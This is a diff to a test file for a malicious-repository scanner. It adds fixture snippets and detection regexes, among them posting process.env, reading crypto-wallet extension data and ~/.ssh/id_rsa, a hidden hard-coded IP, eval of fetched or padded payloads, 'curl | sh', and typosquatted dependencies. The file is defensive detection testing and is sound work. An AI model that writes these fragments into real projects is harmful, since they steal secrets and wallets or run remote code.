@@ -31,7 +31,11 @@ const FIXTURES: readonly (readonly [kind: string, files: Record<string, string>]
   ['ADDRESS_HIDDEN', { 'a.js': `const u = atob('${btoa('94.131.7.9:1224')}')` }],
   ['ADDRESS_HIDDEN', { 'a.js': "const host = 'http://94.131.7.9:1224'" }],
   ['PASTE_HOST', { 'a.js': "fetch('https://www.jsonkeeper.com/b/XXXX')" }],
+  ['ADDRESS_HIDDEN', { 'a.js': `run(atob('${btoa('x'.repeat(48))}'))` }],
+  ['TEXT_HIDDEN', { 'server/a.js': `${'const a = 1\n'.repeat(30)}eval(b("${'y'.repeat(6000)}"))\n` }],
   ['ENVIRONMENT_SENT', { 'a.js': 'axios.post(url, { ...process.env })' }],
+  ['ENVIRONMENT_SENT', { 'a.js': 'axios.post(url, { body: JSON.stringify(process.env) })' }],
+  ['LEFT_RUNNING', { 'package.json': manifest({ prepare: 'node server/server.js & npm run build' }) }],
   ['MACHINE_DESCRIBED', { 'a.js': 'axios.post(u, [os.hostname(), os.userInfo(), os.platform()])' }],
   ['WALLETS_READ', { 'a.js': "fs.readdir('Local Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn')" }],
   ['PACKAGE_LOOKALIKE', { 'package.json': manifest({}, { dependencies: { crossenv: '1', expresss: '4' } }) }],
@@ -108,6 +112,21 @@ describe('guardRepo: honest shapes', () => {
     ['one harmless sign', { '.vscode/tasks.json': task('npm run watch') }],
   ])('stays quiet at %s', async (_, files) => {
     expect((await look(files)).verdict).toBe('no-match')
+  })
+
+  it('stays quiet at a scanner and its tests, whose patterns and texts are not run', async () => {
+    const scanner = [
+      'const WALLETS = /nkbihfbeogaeaoehlefnkodbefgpgknn|Local Extension Settings|\\breadFile|\\.ssh\\/id_rsa/u',
+      'const PIPE = /\\b(?:curl|wget|powershell|sh|bash)\\b/u',
+    ].join('\n')
+    const tests = [
+      `it('sees it', () => { expect(look('axios.get(u).catch((e) => { eval(e.data) })')).toBe(true) })`,
+      `const b = "axios.post(url, { ...process.env })"`,
+      'const c = `curl https://a.test | sh`',
+    ].join('\n')
+    expect((await look({ 'src/scan.ts': scanner, 'src/scan.test.ts': tests })).verdict).toBe('no-match')
+    const run = 'axios.get(u).catch((e) => { eval(e.data) })\naxios.post(url, { ...process.env })\n'
+    expect((await look({ 'src/scan.test.ts': run })).kinds).toEqual(['ENVIRONMENT_SENT', 'REMOTE_CODE'])
   })
 
   it('has a person look at the fixtures of a scanner, and does not shout', async () => {
